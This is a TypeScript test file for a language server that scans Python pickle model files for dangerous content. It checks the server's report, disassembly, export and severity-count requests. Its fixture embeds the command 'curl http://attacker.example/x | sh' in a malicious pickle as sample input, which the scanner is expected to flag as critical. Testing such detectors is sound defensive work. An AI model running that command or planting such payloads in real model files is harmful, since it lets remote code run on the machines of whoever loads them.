// The report view's requests over real JSON-RPC: the full scan result, the disassembly, exports
// through the CLI formatters, and the per-file counts behind the explorer badges.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { DisassemblyRequest, ExportRequest, FileSeveritiesRequest, ReportRequest } from '../../server/src/protocol/report';
import { TestClient } from './helpers/lspClient';
import { benignPickle, maliciousPickle } from './helpers/pickles';
import { makeWorkspace, removeWorkspace } from './helpers/workspace';

const EVIL = maliciousPickle('curl http://attacker.example/x | sh');

describe('language server: report requests', () => {
  let root: string;
  let client: TestClient;

  before(async () => {
    root = makeWorkspace({ 'models/evil.pkl': EVIL, 'models/good.pkl': benignPickle() });
    client = await TestClient.start({ root });
    await client.waitForDiagnostics(client.uri('models/evil.pkl'), (d) => d.length > 0);
  });

  after(() => {
    client?.kill();
    if (root) removeWorkspace(root);
  });

  it('msl/report returns the whole scan: findings with evidence, summary, digest', async () => {
    const r = await client.connection.sendRequest(ReportRequest, { uri: client.uri('models/evil.pkl') });
    assert.equal(r.fileName, 'evil.pkl');
    assert.equal(r.format, 'pickle');
    assert.equal(r.formatLabel, 'Python pickle');
    assert.equal(r.size, EVIL.length);
    assert.equal(r.sha256, createHash('sha256').update(EVIL).digest('hex'));
    assert.deepEqual(r.findings.map((f) => [f.ruleId, f.severity, f.evidence]), [['MSL601', 'critical', "os.system('curl http://attacker.example/x | sh')"]]);
    assert.deepEqual(r.summary.pickles?.[0]?.imports.map((i) => [i.module, i.name, i.verdict]), [['os', 'system', 'dangerous']]);
  });

  it('msl/report on a missing file reports it unreadable instead of failing', async () => {
    const r = await client.connection.sendRequest(ReportRequest, { uri: client.uri('models/nope.pkl') });
    assert.equal(r.findings[0]?.ruleId, 'MSL002');
    assert.equal(r.sha256, undefined);
    assert.ok(r.error);
  });

  it('msl/report rejects non-file URIs', async () => {
    await assert.rejects(client.connection.sendRequest(ReportRequest, { uri: 'untitled:Untitled-1' }), /Only file: URIs/);
  });

  it('msl/disassembly returns the listing with the dangerous lines', async () => {
    const d = await client.connection.sendRequest(DisassemblyRequest, { uri: client.uri('models/evil.pkl') });
    assert.equal(d.streams.length, 1);
    const lines = d.streams[0]!.text.split('\n');
    assert.deepEqual(d.streams[0]!.dangerousLines.map((i) => /^\s*\d+: (\w+)/.exec(lines[i]!)?.[1]), ['GLOBAL', 'REDUCE']);
  });

  it('msl/export produces the CLI\'s SARIF, JSON and Markdown with workspace-relative paths', async () => {
    const uri = client.uri('models/evil.pkl');
    const sarif = await client.connection.sendRequest(ExportRequest, { uri, format: 'sarif' });
    assert.equal(sarif.fileName, 'evil.pkl.msl.sarif');
    const doc = JSON.parse(sarif.text);
    assert.equal(doc.version, '2.1.0');
    assert.equal(doc.runs[0].results[0].ruleId, 'MSL601');
    assert.equal(doc.runs[0].artifacts[0].location.uri, 'models/evil.pkl');
    const json = JSON.parse((await client.connection.sendRequest(ExportRequest, { uri, format: 'json' })).text);
    assert.equal(json.results[0].path, 'models/evil.pkl');
    assert.equal(json.summary.findings.critical, 1);
    const md = await client.connection.sendRequest(ExportRequest, { uri, format: 'markdown' });
    assert.equal(md.fileName, 'evil.pkl.msl.md');
    assert.match(md.text, /^### 🔴 Model Security Lint: Dangerous: do not load this file$/m);
    assert.match(md.text, /^`models\/evil\.pkl`: \*\*1\*\* critical · \*\*0\*\* high/m);
  });

  it('msl/fileSeverities lists the files with findings and their counts', async () => {
    const { files } = await client.connection.sendRequest(FileSeveritiesRequest, {});
    const evil = files.find((f) => f.uri === client.uri('models/evil.pkl'));
    assert.deepEqual(evil?.counts, { critical: 1, high: 0, medium: 0, low: 0, info: 0 });
    assert.equal(files.some((f) => f.uri === client.uri('models/good.pkl')), false);
  });
});
